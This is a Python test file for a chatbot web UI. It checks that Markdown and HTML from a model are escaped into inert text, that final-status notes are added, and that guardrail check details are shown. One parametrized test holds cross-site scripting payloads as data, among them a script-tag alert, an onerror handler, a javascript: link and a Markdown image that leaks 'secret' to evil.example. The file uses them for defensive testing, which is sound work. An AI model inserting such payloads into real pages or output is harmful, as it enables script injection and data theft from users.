"""Stored messages → Chatbot entries: inert markup, status notes, and the rail details."""

from __future__ import annotations

from typing import Any

import pytest

from webapp.store.transcripts import TranscriptMessage
from webapp.ui.rendering import (
    FAILED_NOTE,
    FLAGGED_NOTE,
    INTERRUPTED_NOTE,
    assistant_text,
    checks_details,
    render_messages,
    safe_markdown,
)


@pytest.mark.parametrize(
    ("raw", "inert"),
    [
        ("<script>alert(1)</script>", "\\<script>alert(1)\\</script>"),
        ('<img src=x onerror="alert(1)">', '\\<img src=x onerror="alert(1)">'),
        ("<iframe src=//evil></iframe>", "\\<iframe src=//evil>\\</iframe>"),
        ("![pixel](https://evil.example/leak?q=secret)", "!\\[pixel](https://evil.example/leak?q=secret)"),
        ("[click](javascript:alert(1))", "[click]\\(javascript:alert(1))"),
    ],
)
def test_markup_from_the_model_is_escaped_into_text(raw: str, inert: str) -> None:
    """A backslash before ``<`` / ``[`` / ``(`` makes Markdown show the character instead of acting on it."""
    assert safe_markdown(raw) == inert
    assert safe_markdown(inert) == inert  # escaping twice changes nothing (the rails may have done it already)


def test_code_and_plain_markdown_are_left_alone() -> None:
    text = "**bold** and `<b>` inline\n\n```html\n<script>shown as code</script>\n```\n\n- a list"
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("status", "note"),
    [("blocked", FLAGGED_NOTE), ("interrupted", INTERRUPTED_NOTE), ("error", FAILED_NOTE), ("complete", None)],
)
def test_each_final_status_is_marked(status: str, note: str | None) -> None:
    shown = assistant_text("Partial answer", status)
    assert shown.startswith("Partial answer")
    if note is None:
        assert shown == "Partial answer"
    else:
        assert shown.endswith(f"*{note}*")


def test_details_list_each_rail_with_its_time() -> None:
    details = checks_details(
        [
            {"name": "check abuse input", "stage": "input", "duration_ms": 2.4, "blocked": False},
            {"name": "a|b <rail>", "stage": "output", "duration_ms": 0.2, "blocked": True, "reason": "toxic"},
        ]
    )
    assert details is not None
    assert details["metadata"] == {"title": "Checked by 2 rails · 3 ms", "status": "done"}
    rows = details["content"].splitlines()
    assert rows[2] == "| check abuse input | input | passed | 2 ms |"
    assert rows[3] == "| a\\|b \\<rail> | output | blocked: toxic | <1 ms |"
    assert checks_details([]) is None


def _message(id_: int, role: str, content: str, status: str = "complete", checks: Any = None) -> TranscriptMessage:
    return TranscriptMessage(id=id_, role=role, content=content, status=status, checks=checks, vote=None)


def test_each_entry_points_at_its_stored_message() -> None:
    checks = [{"name": "r", "stage": "input", "duration_ms": 1.0, "blocked": False}]
    view = render_messages(
        [
            _message(1, "user", "hi"),
            _message(2, "assistant", "hello", checks=checks),
            _message(3, "user", "more"),
            _message(4, "assistant", "cut", status="interrupted"),
        ]
    )
    assert [m["role"] for m in view.messages] == ["user", "assistant", "assistant", "user", "assistant"]
    assert view.message_ids == [1, 2, 2, 3, 4]  # the details entry belongs to reply 2
    assert view.message_id_at(5) is None and view.message_id_at(-1) is None
